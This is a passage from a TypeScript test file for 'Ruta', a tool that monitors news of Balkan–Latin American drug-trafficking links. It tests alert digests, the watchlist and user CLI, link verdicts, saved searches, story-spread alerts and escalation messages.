    expect(links.find('> li > ul > li > b').first().text()).toMatch(/^Kavač clan – /);
    expect(m.text).toMatch(/Covers \d{1,2} \w{3} \d{4}, \d\d:\d\d to \d{1,2} \w{3} \d{4}, \d\d:\d\d \(America\/Guayaquil\)\./);
    expect(m.text).toContain('HTTP 503 from https://vijesti.example/feed');
    expect(m.text).toContain('https://el-litoral.example/guayaquil-kavac');
    // Each item also opens in Ruta: the article's stored copy, the story's page.
    const stored = await db.article.findFirstOrThrow({ where: { url: 'https://el-litoral.example/guayaquil-kavac' } });
    const app = loadAlertSettings().publicUrl;
    expect(links.find('> li > small > a').first().attr('href')).toBe(`${app}/articles/${stored.id}`);
    expect($('h2').eq(1).next('ul').find('a:contains("the story in Ruta")').attr('href')).toBe(`${app}/stories/${stored.storyId}`);
    expect(m.text).toContain(`In Ruta: ${app}/articles/${stored.id}`);

    // Next day: only what is new since.
    await storeArticle(db, article('night-desk', 'callao', 'Kavač clan moved cocaine through Callao', 'Peruvian police said the Kavač clan moved cocaine through the port of Callao. Officers seized 450 kilograms of cocaine in Callao.'));
    await runRules(db);
    const tomorrow = new Date(now.getTime() + 86400_000);
    expect(await queueDueDigests(db, tomorrow)).toBe(1);
    const [first, second] = await db.digest.findMany({ orderBy: { id: 'asc' }, include: { items: true } });
    const k1 = first!.items.map((i) => i.itemKey);
    const k2 = second!.items.map((i) => i.itemKey);
    expect(k2.length).toBeGreaterThan(0);
    expect(k2.filter((k) => k1.includes(k))).toEqual([]);
    expect(second!.html).toContain('Kavač clan – Callao');
    expect(second!.html).not.toContain('Kavač clan – Guayaquil');

    // The CLI: preview writes a file and prints its path; send sends now.
    await db.$disconnect();
    const env = { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM };
    const prev = await ruta(['digest', 'preview', '--user', 'researcher@ruta.test'], env);
    expect(prev.code, prev.stderr).toBe(0);
    const file = prev.stdout.trim();
    expect(file.startsWith(dir)).toBe(true);
    expect(existsSync(file) && readFileSync(file, 'utf8')).toMatch(/^<!doctype html>/);
    const sent = await ruta(['digest', 'send', '--user', 'researcher@ruta.test'], env);
    expect(sent.stderr).toMatch(/nothing new for researcher@ruta\.test/); // everything went out in the two digests
    expect(sent.code).toBe(0);
    expect((await ruta(['digest', 'send', '--user', 'nobody@ruta.test'], env)).stderr).toMatch(/no user nobody@ruta\.test/);
  }, 60_000);
});

describe('users and watchlists on the command line', () => {
  it('adds users with a password from stdin and lists them; rejects a bad timezone clearly', async () => {
    const t = tempDir();
    cleanups.push(t.cleanup);
    const env = { RUTA_DB: join(t.dir, 'ruta.db') };
    const add = await ruta(['users', 'add', '--email', 'ed@ruta.test', '--role', 'editor', '--timezone', 'Europe/Podgorica', '--password-stdin'], env, 'correct horse battery\n');
    expect(add.code, add.stderr).toBe(0);
    const bad = await ruta(['users', 'add', '--email', 'x@ruta.test', '--role', 'editor', '--timezone', 'Mars/Olympus'], env);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/"Mars\/Olympus" is not a known timezone/);
    expect((await ruta(['users', 'add', '--email', 'ed@ruta.test', '--role', 'editor'], env)).stderr).toMatch(/already exists/);
    const users = jsonLines((await ruta(['users', 'list', '--json'], env)).stdout);
    expect(users).toHaveLength(1);
    expect(users[0]).toMatchObject({ email: 'ed@ruta.test', role: 'editor', timezone: 'Europe/Podgorica', hasPassword: true, subscriptions: [{ channel: 'email', mode: 'digest' }] });
    expect(users[0]!.feedUrl).toMatch(/^http:\/\/localhost:3000\/feeds\/[A-Za-z0-9_-]{32}\/alerts\.atom$/);
    const sub = await ruta(['subscriptions', 'add', '--user', 'ed@ruta.test', '--channel', 'webhook', '--rules', 'no-such-rule', '--target', 'https://hooks.example/x'], env);
    expect(sub.code).toBe(2);
    expect(sub.stderr).toMatch(/unknown rule\(s\) no-such-rule; rules are watchlist-hit, balkan-latam-link/);
  });

  it('export, edit, preview (saves nothing), import (audited), with owners', async () => {
    const { db, path, dir } = await freshDb();
    await addUser(db, { email: 'editor@ruta.test', role: 'editor' });
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await storeArticle(db, article('vijesti', 'skaljari', 'Škaljari clan and Santos', 'Police in Brazil said members of the Škaljari clan used the port of Santos to ship cocaine to Europe.'));
    await db.$disconnect();
    const env = { RUTA_DB: path };
    const file = join(dir, 'lists.yaml');
    const exp = await ruta(['watchlist', 'export', file], env);
    expect(exp.code, exp.stderr).toBe(0);
    const exported = parseWatchlists(readFileSync(file, 'utf8'));
    expect(exported.map((w) => w.name)).toEqual(['Balkan clans', 'Departure ports']);

    // Edit: drop Guayaquil, add Antwerp, give Santos an alias, set an owner.
    const ports = exported.find((w) => w.name === 'Departure ports')!;
    ports.owner = 'editor@ruta.test';
    ports.entries = ports.entries.filter((e) => e.name !== 'Guayaquil');
    ports.entries.push({ name: 'Antwerp', type: 'port', side: 'europe', aliases: ['Antwerpen', 'Amberes'] });
    ports.entries.find((e) => e.name === 'Santos')!.aliases = ['Porto de Santos'];
    const { stringifyWatchlists } = await import('../alerts/watchlist-file.js');
    writeFileSync(file, stringifyWatchlists([ports]));

    const prev = await ruta(['watchlist', 'preview', file, '--days', '3650', '--json'], env);
    expect(prev.code, prev.stderr).toBe(0);
    const lines = jsonLines(prev.stdout);
    const arts = lines.filter((l) => l.type === 'article');
    const guayaquilArticle = arts.find((a) => (a.url as string).includes('guayaquil-kavac'))!;
    expect(guayaquilArticle.change).toBe('kept'); // Antwerp replaces Guayaquil for this article
    expect(guayaquilArticle.entries).toEqual(['Antwerp']);
    expect(arts.find((a) => (a.url as string).includes('skaljari'))).toMatchObject({ change: 'kept', entries: ['Santos'] });
    expect(lines.find((l) => l.type === 'link')).toMatchObject({ balkan: 'Kavač clan', latam: 'Guayaquil' });
    expect(lines.find((l) => l.type === 'summary')).toMatchObject({ scanned: 2, flagged: 2, byEntry: { Antwerp: 1, Santos: 1 } });
    // Nothing was saved.
    expect(parseWatchlists((await ruta(['watchlist', 'export'], env)).stdout).find((w) => w.name === 'Departure ports')!.entries.map((e) => e.name)).toContain('Guayaquil');
    // A preview of a stored list by id.
    const byId = jsonLines((await ruta(['watchlist', 'preview', '1', '--json'], env)).stdout);
    expect(byId.find((l) => l.type === 'summary')).toMatchObject({ scanned: 2 });

    const imp = await ruta(['watchlist', 'import', file, '--by', 'editor@ruta.test'], env);
    expect(imp.code, imp.stderr).toBe(0);
    expect(imp.stderr).toMatch(/1 entry added, 1 changed, 1 removed, 2 unchanged/);
    const lists = jsonLines((await ruta(['watchlist', 'list', '--json'], env)).stdout);
    expect(lists.find((l) => l.name === 'Departure ports')).toMatchObject({ owner: 'editor@ruta.test', entries: 4 });
    const audit = jsonLines((await ruta(['watchlist', 'audit', 'Departure ports', '--json'], env)).stdout);
    expect(audit[0]).toMatchObject({ action: 'import', added: ['Antwerp'], removed: [{ name: 'Guayaquil', aliases: ['Gvajakil', 'Гвајакил'] }] });
    const badOwner = await ruta(['watchlist', 'import', file, '--owner', 'ghost@ruta.test'], env);
    expect(badOwner.code).toBe(2);
    expect(badOwner.stderr).toMatch(/owner ghost@ruta\.test is not a Ruta user/);
    writeFileSync(join(dir, 'bad.yaml'), 'watchlists:\n  - name: X\n    entries:\n      - name: Y\n        type: spaceship\n');
    const bad = await ruta(['watchlist', 'preview', join(dir, 'bad.yaml')], env);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/entry #1 \(Y\): type "spaceship" is not one of/);
  }, 60_000);
});

describe('dismissals', () => {
  it('a dismissed alert keeps its story quiet about the same pair or entry; other names still alert', async () => {
    const { db } = await freshDb();
    const first = await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    const storyId = first.status === 'stored' ? first.storyId : -1;
    const { commitRuleBatch } = await import('../storage/alerts-repo.js');
    const base = { rule: 'seizure-threshold', severity: 'high' as const, reason: 'r', evidence: 'e', articleId: first.articleId, storyId };
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'a', entities: ['Kavač clan', 'Guayaquil'] }], [], 0)).toBe(1);
    await db.alert.update({ where: { key: 'a' }, data: { status: 'dismissed' } });
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'b', entities: ['Guayaquil', 'Kavač clan'] }], [], 0)).toBe(0);
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'c', entities: ['Kavač clan'] }], [], 0)).toBe(0);
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'd', entities: ['Kavač clan', 'Callao'] }], [], 0)).toBe(1);
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'e', storyId: null, entities: ['Kavač clan', 'Guayaquil'] }], [], 0)).toBe(1);
    expect(await commitRuleBatch(db, 'test', [{ ...base, key: 'f', rule: 'watchlist-hit', entities: ['Kavač clan', 'Guayaquil'] }], [], 0)).toBe(1);
  });
});

describe('link verdicts', () => {
  it('a link analysts dismiss raises no more alerts and leaves the digest; the verdict outlives the link; confirmed ones say so', async () => {
    const { db, path } = await freshDb();
    await addUser(db, { email: 'analyst@ruta.test', role: 'analyst' });
    const researcher = await addUser(db, { email: 'researcher@ruta.test', role: 'researcher', timezone: 'UTC' });
    await addSubscription(db, { userId: researcher.id, channel: 'email', mode: 'digest' });
    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(db);
    const firstAlerts = await db.alert.count();
    await db.$disconnect();

    // The command line: the links with their ids and verdicts; a verdict with who and why.
    const env = { RUTA_DB: path };
    const listed = jsonLines((await ruta(['links', 'list', '--json'], env)).stdout) as { id: number; balkan: string; latam: string; review: string }[];
    const pair = listed.find((l) => l.balkan === 'Kavač clan' && l.latam === 'Guayaquil')!;
    expect(pair.review).toBe('open');
    const bad = await ruta(['links', 'review', String(pair.id), 'wrong'], env);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/must be confirmed, dismissed or open, not "wrong"/);
    expect((await ruta(['links', 'review', '999999', 'dismissed'], env)).stderr).toMatch(/no link #999999/);
    const done = await ruta(['links', 'review', String(pair.id), 'dismissed', '--note', 'the clan is named for another shipment', '--by', 'analyst@ruta.test'], env);
    expect(done.code, done.stderr).toBe(0);
    expect(done.stderr).toContain(`link #${pair.id} Kavač clan – Guayaquil: dismissed by analyst@ruta.test`);
    const after = jsonLines((await ruta(['links', 'list', '--json'], env)).stdout) as { id: number; review: string }[];
    expect(after.find((l) => l.id === pair.id)!.review).toBe('dismissed');
    // Filters for scripts: links by verdict and since a day; alerts by rule, status, severity and day.
    expect(jsonLines((await ruta(['links', 'list', '--json', '--review', 'dismissed'], env)).stdout).map((l) => l.id)).toEqual([pair.id]);
    expect(jsonLines((await ruta(['links', 'list', '--json', '--review', 'open'], env)).stdout).length).toBe(listed.length - 1);
    expect(jsonLines((await ruta(['links', 'list', '--json', '--since', '2999-01-01'], env)).stdout)).toEqual([]);
    expect((await ruta(['links', 'list', '--review', 'maybe'], env)).stderr).toMatch(/--review must be one of open, confirmed, dismissed, not "maybe"/);
    const hits = jsonLines((await ruta(['alerts', 'list', '--json', '--rule', 'watchlist-hit', '--status', 'open'], env)).stdout);
    expect(hits.length).toBeGreaterThan(0);
    expect(hits.every((a) => a.rule === 'watchlist-hit' && a.status === 'open')).toBe(true);
    expect(jsonLines((await ruta(['alerts', 'list', '--json', '--limit', '1'], env)).stdout)).toHaveLength(1);
    expect(jsonLines((await ruta(['alerts', 'list', '--json', '--since', '2999-01-01'], env)).stdout)).toEqual([]);
    expect(jsonLines((await ruta(['alerts', 'list', '--json', '--severity', 'critical'], env)).stdout).every((a) => a.severity === 'critical')).toBe(true);
    const badSince = await ruta(['alerts', 'list', '--since', 'yesterday'], env);
    expect([badSince.code, badSince.stderr]).toEqual([2, expect.stringMatching(/--since must be a date such as 2026-11-01, not "yesterday"/)]);

    const db2 = await openDb(path);
    cleanups.push(() => db2.$disconnect());
    expect(await db2.linkReview.findMany({ select: { balkan: true, latam: true, status: true, note: true } })).toEqual([
      { balkan: 'Kavač clan', latam: 'Guayaquil', status: 'dismissed', note: 'the clan is named for another shipment' },
    ]);
    // Another outlet, another story: the dismissed pair raises nothing; the new pair beside it does.
    const other = await storeArticle(db2, article('night-desk', 'callao-guayaquil', 'Kavač clan routes', 'Peruvian police said the Kavač clan moved cocaine through the port of Callao. Ecuadorian police said the Kavač clan smuggled cocaine through the port of Guayaquil.', '2026-03-02T08:00:00Z'));
    const first = await db2.article.findFirstOrThrow({ where: { url: 'https://el-litoral.example/guayaquil-kavac' } });
    expect(other.status === 'stored' && other.storyId).not.toBe(first.storyId);
    await runRules(db2);
    const later = await db2.alert.findMany({ where: { id: { gt: firstAlerts }, rule: { in: ['balkan-latam-link', 'link-new-place'] } } });
    expect(later.length).toBeGreaterThan(0);
    expect(later.every((a) => !a.reason.includes('Guayaquil') && !(JSON.parse(a.entities) as string[]).includes('Guayaquil'))).toBe(true);
    expect(later.some((a) => a.reason.includes('Kavač clan – Callao'))).toBe(true);
    // The digest leaves the dismissed link out, and the alert an analyst dismissed.
    const fresh = await newLinks(db2, new Date('2000-01-01'), new Date(Date.now() + 60_000));
    expect(fresh.map((l) => `${l.balkan} – ${l.latam}`)).toContain('Kavač clan – Callao');
    expect(fresh.map((l) => `${l.balkan} – ${l.latam}`)).not.toContain('Kavač clan – Guayaquil');
    const callao = await db2.link.findFirstOrThrow({ where: { balkan: 'Kavač clan', latam: 'Callao' } });
    const { reviewLink } = await import('../storage/link-review-repo.js');
    expect(await reviewLink(db2, callao.id, null, 'confirmed')).toBe(true);
    const watch = await db2.alert.findFirstOrThrow({ where: { rule: 'watchlist-hit' }, orderBy: { id: 'desc' } });
    await db2.alert.update({ where: { id: watch.id }, data: { status: 'dismissed' } });
    const { buildDigest } = await import('../alerts/digest.js');
    const draft = (await buildDigest(db2, { id: researcher.id, email: researcher.email, timezone: 'UTC', digestHour: 7 }))!;
    expect(draft.html).toContain('Kavač clan – Callao (confirmed by an analyst)');
    // And in its own section, as analysts' checked connections, with who confirmed it.
    const confirmedSection = cheerio.load(draft.html)('h2:contains("Links analysts confirmed")');
    expect(confirmedSection.text()).toBe('Links analysts confirmed (1)');
    expect(confirmedSection.next('ul').text()).toContain('Kavač clan – Callao');
    expect(confirmedSection.next('ul').text()).toContain('confirmed by the command line');
    expect(draft.items).toContain(`confirmed:${callao.id}`);
    expect(draft.subject).toMatch(/1 confirmed link\(s\)/);
    expect(draft.html).not.toContain('Kavač clan – Guayaquil'); // nor the alert raised before the verdict
    expect(draft.html).toContain('New Balkan–Latin America link: Kavač clan – Callao');
    expect(draft.items).not.toContain(`alert:${watch.id}`);
    expect(draft.items.filter((k) => k.startsWith('alert:')).length).toBeGreaterThan(0);

    // Reanalysis takes the pair off every article, so the link goes; when an article reports it again, the verdict is back.
    const { applyReanalysis } = await import('../storage/reanalysis-repo.js');
    for (const a of await db2.article.findMany({ where: { evidence: { some: { link: { latam: 'Guayaquil', balkan: 'Kavač clan' } } } } })) {
      const x = analyze({ text: a.text, title: a.title });
      await applyReanalysis(db2, a.id, { ...x, links: x.links.filter((l) => l.latam !== 'Guayaquil') }, { journal: false });
    }
    expect(await db2.link.findFirst({ where: { balkan: 'Kavač clan', latam: 'Guayaquil' } })).toBeNull();
    await storeArticle(db2, article('vijesti', 'guayaquil-again', 'Kavač clan and Guayaquil', 'Investigators said the Kavač clan organised cocaine shipments from the port of Guayaquil to Antwerp.', '2026-11-22T08:00:00Z'));
    expect(await db2.link.findFirstOrThrow({ where: { balkan: 'Kavač clan', latam: 'Guayaquil' } })).toMatchObject({ review: 'dismissed' });
  }, 60_000);
});

describe('saved searches', () => {
  it('each digest lists the new articles a researcher’s saved searches find, across scripts, copies once, never twice', async () => {
    const { db, path } = await freshDb();
    const researcher = await addUser(db, { email: 'researcher@ruta.test', role: 'researcher', timezone: 'UTC' });
    await addSubscription(db, { userId: researcher.id, channel: 'email', mode: 'digest' });
    await db.$disconnect();
    const env = { RUTA_DB: path };
    const add = await ruta(['searches', 'add', '--user', 'researcher@ruta.test', 'bananas', 'container'], env);
    expect(add.code, add.stderr).toBe(0);
    expect(add.stderr).toMatch(/saved search #1 for researcher@ruta\.test: “bananas container” \(across scripts\)/);
    expect((await ruta(['searches', 'add', '--user', 'researcher@ruta.test', 'Kavački'], env)).code).toBe(0);
    expect((await ruta(['searches', 'add', '--user', 'researcher@ruta.test', '--exact', '--lang', 'es', 'Puerto Bolívar'], env)).code).toBe(0);
    const none = await ruta(['searches', 'add', '--user', 'researcher@ruta.test', '"*"'], env);
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/has no word to search for/);
    expect((await ruta(['searches', 'add', '--user', 'nobody@ruta.test', 'x'], env)).stderr).toMatch(/no user nobody@ruta\.test/);
    const listed = jsonLines((await ruta(['searches', 'list', '--json'], env)).stdout);
    expect(listed.map((s) => [s.query, s.across, s.lang])).toEqual([['bananas container', true, null], ['Kavački', true, null], ['Puerto Bolívar', false, 'es']]);

    const db2 = await openDb(path);
    cleanups.push(() => db2.$disconnect());
    // The report, a near copy of it from another outlet, a Cyrillic report, and one no search finds.
    await storeArticle(db2, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await storeArticle(db2, article('night-desk', 'copy', FIRST.title, `${FIRST.text} Night Desk republished this report.`));
    expect(await db2.article.count({ where: { duplicateOfId: { not: null } } })).toBe(1);
    await storeArticle(db2, { ...article('vijesti', 'kavacki', 'Кавачки клан и Гвајакил', 'Полиција у Еквадору запленила је кокаин у луци Гвајакил. Истражитељи кажу да је пошиљку организовао Кавачки клан.'), lang: 'sr', script: 'Cyrl' });
    await storeArticle(db2, article('vijesti', 'weather', 'Rain in Podgorica', 'Heavy rain fell on Podgorica on Monday, the weather service said.'));
    const { queueDigest } = await import('../alerts/digest.js');
    const user = { id: researcher.id, email: researcher.email, timezone: 'UTC', digestHour: 7 };
    const first = (await queueDigest(db2, user, '2026-11-24'))!;
    const $ = cheerio.load(first.draft.html);
    const section = $('h2').filter((_, h) => $(h).text().startsWith('Your saved searches')).next('ul');
    expect(section.find('> li > a').toArray().map((a) => $(a).text()).sort()).toEqual([FIRST.title, 'Кавачки клан и Гвајакил'].sort());
    expect(section.text()).toContain('matches “bananas container”');
    expect(section.text()).toContain('matches “Kavački”');
    expect(first.draft.subject).toMatch(/2 saved search match\(es\)/);
    // The next digest: only what was stored since, and never an article sent before.
    await storeArticle(db2, article('vijesti', 'bananas-2', 'Another container of bananas', 'Customs in Bar opened a container of bananas from Ecuador and found nothing, officials said.'));
    const second = (await queueDigest(db2, user, '2026-11-25', new Date(Date.now() + 60_000)))!;
    const items = second.draft.items.filter((k) => k.startsWith('search:'));
    const later = await db2.article.findFirstOrThrow({ where: { url: 'https://vijesti.example/bananas-2' } });
    expect(items).toEqual([`search:${later.id}`]);

    // Removed, it finds nothing more.
    await db2.$disconnect();
    expect((await ruta(['searches', 'remove', '1'], env)).code).toBe(0);
    expect((await ruta(['searches', 'remove', '1'], env)).stderr).toMatch(/no saved search #1/);
    expect(jsonLines((await ruta(['searches', 'list', '--user', 'researcher@ruta.test', '--json'], env)).stdout).map((s) => s.query)).toEqual(['Kavački', 'Puerto Bolívar']);
  }, 60_000);
});

describe('watchlist outcomes', () => {
  it('counts each entry’s alerts and the analysts’ decisions, and calls an entry they mostly dismiss noisy', async () => {
    const { db, path } = await freshDb();
    const analyst = await addUser(db, { email: 'analyst@ruta.test', role: 'analyst' });
    // Three stories naming the Kavač clan, months apart; one naming Škaljari.
    const days = ['2026-03-02', '2026-06-10', '2026-09-20'];
    for (const [i, d] of days.entries()) {
      await storeArticle(db, article('vijesti', `kavac-${i}`, `Story ${i}`, `Police in Podgorica said on ${d} that the Kavač clan was not involved in the football riot number ${i + 1}.`, `${d}T08:00:00Z`));
    }
    await storeArticle(db, article('vijesti', 'skaljari', 'Škaljari clan', 'Prosecutors said the Škaljari clan smuggled cocaine through the port of Santos.', '2026-10-01T08:00:00Z'));
    await runRules(db);
    const { triageAlert } = await import('../storage/triage-repo.js');
    const hits = await db.alert.findMany({ where: { rule: 'watchlist-hit' }, orderBy: { id: 'asc' } });
    const kavac = hits.filter((a) => (JSON.parse(a.entities) as string[]).includes('Kavač clan'));
    expect(kavac.length).toBe(3);
    await triageAlert(db, kavac[0]!.id, analyst.id, { status: 'dismissed', note: 'football, not cocaine' });
    await triageAlert(db, kavac[1]!.id, analyst.id, { status: 'dismissed' });
    await triageAlert(db, kavac[2]!.id, analyst.id, { status: 'confirmed' });
    const skaljari = hits.find((a) => (JSON.parse(a.entities) as string[]).includes('Škaljari clan'))!;
    await triageAlert(db, skaljari.id, analyst.id, { status: 'escalated' });
    // One of the clan's alerts was raised 200 days ago.
    await db.alert.update({ where: { id: kavac[0]!.id }, data: { createdAt: new Date(Date.now() - 200 * 86_400_000) } });
    await db.$disconnect();

    const name = 'Balkan clans'; // config/watchlists.yaml
    const r = await ruta(['watchlist', 'stats', name, '--days', '365', '--json'], { RUTA_DB: path });
    expect(r.code, r.stderr).toBe(0);
    const rows = jsonLines(r.stdout);
    expect(rows.find((x) => x.entry === 'Kavač clan')).toMatchObject({ hits: 3, dismissed: 2, confirmed: 1, open: 0, noisy: true });
    expect(rows.find((x) => x.entry === 'Škaljari clan')).toMatchObject({ hits: 1, escalated: 1, noisy: false });
    expect(rows.filter((x) => x.hits === 0).length).toBeGreaterThan(0); // entries that never hit are listed too
    // The default 90 days leave the old alert out: two decisions are too few to call the entry noisy.
    const table = await ruta(['watchlist', 'stats', name], { RUTA_DB: path });
    expect(table.stdout).toMatch(/Kavač clan\s+2\s+1\s+0\s+1\s+0\s+\d{4}-\d\d-\d\d\s*\n/);
    expect(table.stdout).not.toMatch(/Kavač clan.*noisy/);
    expect((await ruta(['watchlist', 'stats', 'no such list'], { RUTA_DB: path })).stderr).toMatch(/no watchlist "no such list"/);
    expect((await ruta(['watchlist', 'stats', name, '--days', '0'], { RUTA_DB: path })).code).toBe(2);
  }, 60_000);
});

describe('story spread', () => {
  it('a link or seizure story raises one alert when the third outlet tells it; a story of nothing does not', async () => {
    const { db, dir } = await freshDb();
    await upsertSources(db, [{ id: 'diario-sur', name: 'diario-sur', url: 'https://diario-sur.example/feed', kind: 'rss', language: 'es', country: 'EC', schedule: '*/30 * * * *', render: false, enabled: true, config: {} }]);
    const spread = async () => db.alert.findMany({ where: { rule: 'story-spread' } });
    // The report, then other outlets' copies of it, one at a time.
    const first = await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(db, { spreadOutlets: 3 });
    await storeArticle(db, article('night-desk', 'copy', FIRST.title, `${FIRST.text} Night Desk republished this report.`));
    await runRules(db, { spreadOutlets: 3 });
    expect(await spread()).toEqual([]);
    const third = await storeArticle(db, article('vijesti', 'copy', FIRST.title, `${FIRST.text} Vijesti republished this report.`));
    await runRules(db, { spreadOutlets: 3 });
    const storyId = first.status === 'stored' ? first.storyId : -1;
    const [alert, ...more] = await spread();
    expect(more).toEqual([]);
    expect(alert).toMatchObject({ severity: 'medium', reason: `Story told by 3 outlets: ${(await db.story.findUniqueOrThrow({ where: { id: storyId } })).headline}`, storyId, articleId: third.articleId });
    expect(JSON.parse(alert!.entities)).toEqual(expect.arrayContaining(['Kavač clan', 'Guayaquil']));
    // A fourth outlet, in another language: the story alerted already.
    await storeArticle(db, { ...article('diario-sur', 'copia', FIRST.title, `${FIRST.text} Diario del Sur.`), lang: 'es' });
    await runRules(db, { spreadOutlets: 3 });
    expect(await spread()).toHaveLength(1);

    // Three outlets telling of rain: nothing to do with the trade, no alert.
    for (const id of ['el-litoral', 'night-desk', 'vijesti']) {
      await storeArticle(db, article(id, 'rain', 'Rain in Podgorica', `Heavy rain fell on Podgorica on Monday, the weather service said. (${id})`));
    }
    await runRules(db, { spreadOutlets: 3 });
    expect(await spread()).toHaveLength(1);
    expect((await db.story.findMany({ where: { headline: 'Rain in Podgorica' } })).map((s) => s.outletCount)).toEqual([3]);

    // Told in two languages, the story crossed a border: high.
    await storeArticle(db, article('night-desk', 'callao', HOSTILE.title, HOSTILE.text));
    await storeArticle(db, { ...article('vijesti', 'callao', HOSTILE.title, `${HOSTILE.text} Preneseno.`), lang: 'sr' });
    await runRules(db, { spreadOutlets: 2 });
    const crossed = (await spread()).find((a) => a.reason.includes('Callao'))!;
    expect(crossed.severity).toBe('high');
    expect(crossed.reason).toMatch(/^Story told by 2 outlets in 2 languages \(en, sr\): /);
    expect(crossed.reason.endsWith((await db.story.findUniqueOrThrow({ where: { id: crossed.storyId! } })).headline)).toBe(true); // text, escaped where shown

    // The threshold comes from settings.yaml; a nonsense value is refused by name.
    const { loadAlertSettings: load } = await import('../alerts/settings.js');
    writeFileSync(join(dir, 'settings.yaml'), 'alerts:\n  spreadOutlets: 1\n');
    expect(() => load({ RUTA_CONFIG_DIR: dir })).toThrow(/alerts\.spreadOutlets must be a whole number of outlets, 2 or more, not 1/);
    writeFileSync(join(dir, 'settings.yaml'), 'alerts:\n  spreadOutlets: 5\n');
    expect(load({ RUTA_CONFIG_DIR: dir }).spreadOutlets).toBe(5);
  }, 60_000);
});

describe('escalations', () => {
  it('an escalated alert goes at once to those who subscribed to "escalated", with who and why, once per escalation', async () => {
    const { db, path } = await freshDb();
    const mail = await smtp();
    const hook = await receiver();
    const analyst = await addUser(db, { email: 'analyst@ruta.test', role: 'analyst' });
    await addUser(db, { email: 'lead@ruta.test', role: 'analyst' });
    await db.$disconnect();
    // The command line takes the rule name, only for messages sent at once.
    const env = { RUTA_DB: path };
    expect((await ruta(['subscriptions', 'add', '--user', 'lead@ruta.test', '--channel', 'email', '--rules', 'escalated'], env)).code).toBe(0);
    expect((await ruta(['subscriptions', 'add', '--user', 'lead@ruta.test', '--channel', 'webhook', '--target', hook.url, '--rules', 'escalated'], env)).code).toBe(0);
    const digest = await ruta(['subscriptions', 'add', '--user', 'lead@ruta.test', '--channel', 'email', '--mode', 'digest', '--rules', 'escalated'], env);
    expect(digest.code).toBe(2);
    expect(digest.stderr).toMatch(/escalated is sent at once: use --mode immediate/);
    expect((await ruta(['subscriptions', 'add', '--user', 'lead@ruta.test', '--channel', 'email', '--rules', 'escalate'], env)).stderr).toMatch(/unknown rule\(s\) escalate; .* and escalated for alerts analysts escalate/);

    const db2 = await openDb(path);
    cleanups.push(() => db2.$disconnect());
    const mailer = mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
    await storeArticle(db2, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    await runRules(db2, { seizureKg: 100 });
    // The alerts themselves are not what the lead asked for.
    expect((await deliverPending(db2, { mailer, settings: SETTINGS })).sent).toBe(0);
    const { triageAlert, triageMany } = await import('../storage/triage-repo.js');
    const [link, ...others] = await db2.alert.findMany({ where: { rule: { in: ['balkan-latam-link', 'watchlist-hit'] } }, orderBy: [{ rule: 'asc' }, { id: 'asc' }] });
    expect(link!.rule).toBe('balkan-latam-link');
    await triageAlert(db2, link!.id, analyst.id, { status: 'escalated', note: 'Prosecutors in Podgorica should see this today.' });
    await triageAlert(db2, others[0]!.id, analyst.id, { status: 'dismissed' });
    expect((await deliverPending(db2, { mailer, settings: SETTINGS })).sent).toBe(2);
    expect((await deliverPending(db2, { mailer, settings: SETTINGS })).sent).toBe(0); // once
    expect(mail.messages).toHaveLength(1);
    const m = mail.messages[0]!;
    expect(m.to && 'text' in m.to ? m.to.text : '').toBe('lead@ruta.test');
    expect(m.subject).toBe(`[Ruta] Escalated by analyst@ruta.test: ${link!.reason}`);
    expect(m.text).toMatch(/^Escalated by analyst@ruta\.test at \d{4}-\d\d-\d\dT[\d:.]+Z\nNote: Prosecutors in Podgorica should see this today\.\n\nHigh — New Balkan–Latin America link/);
    const body = JSON.parse(hook.got[0]!.body);
    expect(body).toMatchObject({ type: 'escalation', escalation: { by: 'analyst@ruta.test', note: 'Prosecutors in Podgorica should see this today.' }, alert: { id: link!.id, rule: 'balkan-latam-link' } });
    // Escalated in bulk: one message each. A decision that is not an escalation sends nothing.
    await triageMany(db2, others.slice(1).map((a) => a.id), analyst.id, 'escalated');
    await triageMany(db2, [link!.id], analyst.id, 'confirmed');
    expect((await deliverPending(db2, { mailer, settings: SETTINGS })).sent).toBe(2 * (others.length - 1));
    expect(mail.messages.slice(1).every((x) => x.subject?.startsWith('[Ruta] Escalated by analyst@ruta.test: Watchlist'))).toBe(true);
  }, 60_000);
});

describe('a digest of a busy day', () => {
  it('lists the 50 most severe alerts of a section and says how many more the queue holds; thousands of alerts do not break it', async () => {
    const { db } = await freshDb();
    const researcher = await addUser(db, { email: 'researcher@ruta.test', role: 'researcher', timezone: 'UTC' });
    await addSubscription(db, { userId: researcher.id, channel: 'email', mode: 'digest' });
    const first = await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
    const link = await db.link.findFirstOrThrow();
    const { commitRuleBatch } = await import('../storage/alerts-repo.js');
    // 3,000 alerts about links, each naming its own pair of names, one in a hundred critical.
    const many = Array.from({ length: 3000 }, (_, i) => ({
      rule: 'balkan-latam-link', key: `busy:${i}`, severity: (i % 100 === 7 ? 'critical' : 'low') as 'critical' | 'low', reason: `Alert ${i}`, evidence: 'e',
      entities: [`Balkan name ${i}`, `Latin name ${i}`], articleId: first.articleId, storyId: null, linkId: link.id,
    }));
    expect(await commitRuleBatch(db, 'test', many, [], 0)).toBe(3000);
    const { buildDigest, ALERTS_PER_SECTION } = await import('../alerts/digest.js');
    const draft = (await buildDigest(db, { id: researcher.id, email: researcher.email, timezone: 'UTC', digestHour: 7 }))!;
    const $ = cheerio.load(draft.html);
